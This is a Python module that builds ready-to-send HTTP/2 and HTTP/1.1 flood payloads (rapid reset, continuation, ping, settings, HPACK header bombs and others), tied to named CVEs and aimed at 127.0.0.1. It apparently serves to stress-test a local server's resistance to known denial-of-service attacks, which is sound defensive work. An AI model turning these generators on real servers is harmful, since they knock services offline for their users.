"""Kinds of floods: for each what opens a connection, and what is then sent over and over.

The kinds of HTTP/2 are those that servers were found to suffer from: CVE-2023-44487 (rapid reset), CVE-2025-8671 (the
server is made to reset), CVE-2019-9512 (ping), 9513 (priority), 9515 (settings), 9518 (empty data), CVE-2024-27316
(continuation), CVE-2016-6581 (header bombs); and what else costs its sender nothing.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from itertools import islice
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
UNKNOWN = 0xBE
END_STREAM, ACK, END_HEADERS = 1, 1, 4

BLOB = 2**16
"""Bytes, about, of each piece that is made beforehand."""

STREAMS = 200_000
"""Streams of one connection; a client that has used them up opens the next."""


@dataclass(frozen=True, slots=True)
class Flood:
    """One kind of flood.

    Attributes:
        opening: sent first on each connection.
        pieces: makes what is sent then; a piece may be long.
    """

    opening: bytes
    pieces: Callable[[], Iterator[bytes]]


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """Return one frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def _literal(index: int, value: bytes, name: bytes = b"") -> bytes:
    """Return a header that no table keeps: its name is at an index of HPACK's static table, or, at 0, given."""
    return bytes([index]) + (bytes([len(name)]) + name if name else b"") + bytes([len(value)]) + value


def _fields(path: bytes, method: bytes = b"\x82") -> bytes:
    return method + b"\x86" + _literal(4, path) + _literal(1, b"127.0.0.1")


HEALTH, NOWHERE = _fields(b"/health"), _fields(b"/nowhere")
POST, CONNECT = _fields(b"/v1/completions", b"\x83"), _literal(2, b"CONNECT") + _literal(1, b"127.0.0.1")
LEARN = HEALTH + b"\x40\x01x\x7f" + b"\x89\x1e" + b"y" * (127 + 9 + 30 * 128)
"""A request whose last header, of 4 KiB, the server's table keeps, at index 62."""


def _same(unit: bytes) -> Callable[[], Iterator[bytes]]:
    blob = unit * (BLOB // len(unit) + 1)

    def pieces() -> Iterator[bytes]:
        while True:
            yield blob

    return pieces


def _streams(unit: Callable[[int], bytes], first: int = 1) -> Callable[[], Iterator[bytes]]:
    def pieces() -> Iterator[bytes]:
        numbers = iter(range(first, 2 * STREAMS, 2))
        while blob := b"".join(unit(number) for number in islice(numbers, 1000)):
            yield blob

    return pieces


def _once(whole: Callable[[], bytes]) -> Callable[[], Iterator[bytes]]:
    return lambda: iter([whole()])


def _request(path: str, head: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{head}\r\n".encode()


def _opened(flags: int = END_HEADERS) -> bytes:
    return OPENING + frame(HEADERS, flags, 1, POST)


FLOODS = {
    "nothing": Flood(b"", lambda: iter([])),
    "reset": Flood(
        OPENING,
        _streams(
            lambda n: (
                frame(HEADERS, END_HEADERS | END_STREAM, n, HEALTH) + frame(RST_STREAM, 0, n, struct.pack(">I", 8))
            )
        ),
    ),
    "made to reset": Flood(
        OPENING,
        _streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, HEALTH) + frame(DATA, 0, n, b"x")),
    ),
    "ping": Flood(OPENING, _same(frame(PING, 0, 0, bytes(8)))),
    "ping's answers": Flood(OPENING, _same(frame(PING, ACK, 0, bytes(8)))),
    "settings": Flood(OPENING, _same(frame(SETTINGS, 0, 0))),
    "settings that change windows": Flood(
        OPENING,
        _same(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 9)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 8))),
    ),
    "empty data": Flood(_opened(), _same(frame(DATA, 0, 1))),
    "data of one byte": Flood(_opened(), _same(frame(DATA, 0, 1, b" "))),
    "continuation": Flood(OPENING, _once(lambda: frame(HEADERS, 0, 1, HEALTH) + frame(CONTINUATION, 0, 1) * 10_000)),
    "window update": Flood(OPENING, _same(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
    "window update of a stream": Flood(_opened(), _same(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))),
    "priority": Flood(OPENING, _same(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 9)))),
    "unknown": Flood(OPENING, _same(frame(UNKNOWN, 0, 0))),
    "header bomb": Flood(
        OPENING + frame(HEADERS, END_HEADERS | END_STREAM, 1, LEARN),
        _streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, HEALTH + b"\xbe" * 14), first=3),
    ),
    "header bomb, too large": Flood(
        OPENING + frame(HEADERS, END_HEADERS | END_STREAM, 1, LEARN),
        _streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, HEALTH + b"\xbe" * 16_000), first=3),
    ),
    "many headers": Flood(
        OPENING, _streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, HEALTH + b"\x90" * 1000))
    ),
    "refused, 404": Flood(OPENING, _streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, NOWHERE))),
    "refused, 400": Flood(OPENING, _streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, POST))),
    "refused, CONNECT": Flood(OPENING, _streams(lambda n: frame(HEADERS, END_HEADERS, n, CONNECT))),
    "requests without an end": Flood(OPENING, _streams(lambda n: frame(HEADERS, END_HEADERS, n, POST))),
    "answered": Flood(OPENING, _streams(lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, HEALTH))),
    "prefaces": Flood(b"", _once(lambda: OPENING + b"\0" * BLOB)),
    "1.1: answered": Flood(b"", _same(_request("/health"))),
    "1.1: refused, 404": Flood(b"", _same(_request("/nowhere"))),
    "1.1: refused, 400": Flood(b"", _same(b"POST /v1/completions HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\n{}")),
    "1.1: malformed": Flood(b"", _same(b"\0\r\n\r\n")),
    "1.1: empty lines": Flood(b"", _same(b"\r\n")),
    "1.1: many headers": Flood(b"", _same(_request("/health", "a: b\r\n" * 1000))),
    "1.1: chunks of one byte": Flood(
        b"POST /v1/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n", _same(b"1\r\n \r\n")
    ),
}
"""By name.  "nothing" opens connections and stays silent."""
